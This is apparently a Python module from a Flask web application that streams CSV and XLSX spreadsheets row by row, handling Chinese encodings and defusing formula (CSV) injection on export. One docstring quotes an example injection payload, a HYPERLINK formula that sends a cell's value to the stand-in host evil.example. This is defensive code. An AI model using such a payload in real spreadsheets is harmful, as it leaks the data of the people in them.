"""Reading and writing the bureau's spreadsheets (CSV and XLSX) row by row, never the whole file.

XLSX is read with openpyxl's read-only mode (rows streamed from the zip) and written in
write-only mode; CSV is written as UTF-8 with a BOM so that Excel opens Chinese text correctly,
and read as UTF-8 or, failing that, GB 18030 (what Excel on a Chinese Windows saves).
"""
from __future__ import annotations

import codecs
import csv
import io
import re
import zipfile
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Iterable, Iterator

from flask_babel import lazy_gettext as _l

FORMATS = ("csv", "xlsx")
MIME = {"csv": "text/csv; charset=utf-8",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}


class SheetError(Exception):
    """The file is not a spreadsheet we can read: ``message`` says why, in the user's language."""

    def __init__(self, message):
        super().__init__(str(message))
        self.message = message


@dataclass
class Sheet:
    name: str
    header: list[str]
    rows: Iterator[tuple[int, tuple]]  # (row number as the spreadsheet shows it, cell values)
    total: int | None  # rows below the header, when the file says


def format_of(filename: str) -> str | None:
    suffix = Path(filename or "").suffix.lower().lstrip(".")
    return suffix if suffix in FORMATS else None


def _header(values) -> list[str]:
    return ["" if v is None else str(v).strip() for v in values]


@contextmanager
def read(path: Path, fmt: str) -> Iterator[list[Sheet]]:
    """``with read(path, fmt) as sheets``: each sheet with its header row and a stream of its rows;
    the file is closed when the block ends."""
    closers: list = []
    try:
        yield _read_xlsx(path, closers) if fmt == "xlsx" else [_read_csv(path, closers)]
    finally:
        for close in closers:
            close()


def _read_xlsx(path: Path, closers: list) -> list[Sheet]:
    from openpyxl import load_workbook

    try:
        book = load_workbook(path, read_only=True, data_only=True)
    except (zipfile.BadZipFile, KeyError, ValueError, OSError, TypeError) as err:
        raise SheetError(_l("The file is not an XLSX workbook (save it from Excel as .xlsx).")) from err
    except Exception as err:  # openpyxl raises its own InvalidFileException and XML parse errors
        raise SheetError(_l("The file is not an XLSX workbook (save it from Excel as .xlsx).")) from err
    closers.append(book.close)
    sheets = []
    for ws in book.worksheets:
        rows = ws.iter_rows(values_only=True)
        try:
            first = next(rows, None)
        except Exception as err:  # a damaged sheet inside a valid zip
            raise SheetError(_l("The file is not an XLSX workbook (save it from Excel as .xlsx).")) from err
        if first is None or not any(v not in (None, "") for v in first):
            continue
        total = ws.max_row - 1 if isinstance(ws.max_row, int) and ws.max_row > 1 else None
        sheets.append(Sheet(ws.title, _header(first), _numbered(rows, 2), total))
    return sheets


def _numbered(rows, start: int) -> Iterator[tuple[int, tuple]]:
    for number, values in enumerate(rows, start):
        if values and any(v not in (None, "") for v in values):
            yield number, values


def _encoding(path: Path) -> str:
    """utf-8-sig when the whole file decodes as UTF-8, else gb18030 (checked in chunks)."""
    decoder = codecs.getincrementaldecoder("utf-8")()
    with open(path, "rb") as fh:
        try:
            for chunk in iter(lambda: fh.read(1 << 20), b""):
                decoder.decode(chunk)
            decoder.decode(b"", final=True)
            return "utf-8-sig"
        except UnicodeDecodeError:
            return "gb18030"


def _read_csv(path: Path, closers: list) -> Sheet:
    with open(path, "rb") as fh:
        head = fh.read(4096)
    if b"\x00" in head or head.startswith(b"PK\x03\x04"):
        raise SheetError(_l("The file is not a CSV text file; choose a .csv or .xlsx file."))
    encoding = _encoding(path)
    with open(path, encoding=encoding, newline="") as fh:
        total = max(sum(1 for _ in fh) - 1, 0)
    fh = open(path, encoding=encoding, newline="", errors="replace")
    closers.append(fh.close)
    reader = csv.reader(fh)
    try:
        first = next(reader, None)
    except csv.Error as err:
        raise SheetError(_l("The CSV file cannot be read: %(error)s", error=str(err))) from err
    if first is None or not any(v.strip() for v in first):
        return Sheet(Path(path).stem, [], iter(()), 0)

    def rows():
        try:
            yield from _numbered((tuple(csv_text(v) for v in r) for r in reader), 2)
        except csv.Error as err:
            raise SheetError(_l("The CSV file cannot be read: %(error)s", error=str(err))) from err

    return Sheet(Path(path).stem, _header(first), rows(), total)


def cell_text(value) -> str | None:
    """A cell as the text a person typed: whole numbers without '.0', dates as ISO."""
    if value is None:
        return None
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, datetime):
        return value.date().isoformat() if value.time() == datetime.min.time() else value.isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return str(value).strip()


class Writer:
    """``with Writer(fileobj, fmt) as w: w.sheet(title, header, rows)``; CSV holds one sheet."""

    def __init__(self, fileobj, fmt: str):
        self.fileobj, self.fmt = fileobj, fmt
        self._book = None
        self._csv_written = False

    def __enter__(self):
        if self.fmt == "xlsx":
            from openpyxl import Workbook

            self._book = Workbook(write_only=True)
        return self

    def sheet(self, title: str, header: list[str], rows: Iterable[Iterable]) -> None:
        if self.fmt == "xlsx":
            ws = self._book.create_sheet(title=title[:31])
            ws.append(header)
            for row in rows:
                row = list(row)
                if any(type(v) is str and v[:1] == "=" for v in row):
                    row = [_text_cell(ws, v) if type(v) is str and v[:1] == "=" else v for v in row]
                ws.append(row)
            return
        if self._csv_written:
            raise ValueError("a CSV file holds one sheet")
        self._csv_written = True
        text = io.TextIOWrapper(self.fileobj, encoding="utf-8-sig", newline="", write_through=True)
        out = csv.writer(text)
        out.writerow(header)
        for row in rows:
            out.writerow(["" if v is None else _csv_value(v) for v in row])
        text.flush()
        text.detach()

    def __exit__(self, exc_type, exc, tb):
        if self.fmt == "xlsx" and exc_type is None:
            self._book.save(self.fileobj)
        return False


def _text_cell(ws, value: str):
    """A text cell that stays text: openpyxl makes any string starting with "=" a formula, so a
    note ``=HYPERLINK("http://evil.example/?x="&A2,"click")`` was exported live (issue 16 item 8)."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"
    return cell


# OWASP "CSV Injection": a cell starting with = + - @ TAB or CR is run as a formula by Excel and
# LibreOffice, so text starting so is written with a leading single quote, which they show as
# text. A text that already starts with quotes before such a character gets one more, and the
# reader takes exactly one away (csv_text): a re-imported export changes nothing. Numbers are
# written as numbers (a negative volume is -5, not '-5).
_FORMULA_START = re.compile(r"'*[=+\-@\t\r]")


def _csv_value(value):
    if isinstance(value, float):
        return str(int(value)) if value.is_integer() else repr(value)
    if isinstance(value, str) and _FORMULA_START.match(value):
        return "'" + value
    return value


def csv_text(value: str) -> str:
    """A CSV cell as written before ``_csv_value`` quoted it."""
    if value[:1] == "'" and _FORMULA_START.match(value, 1):
        return value[1:]
    return value
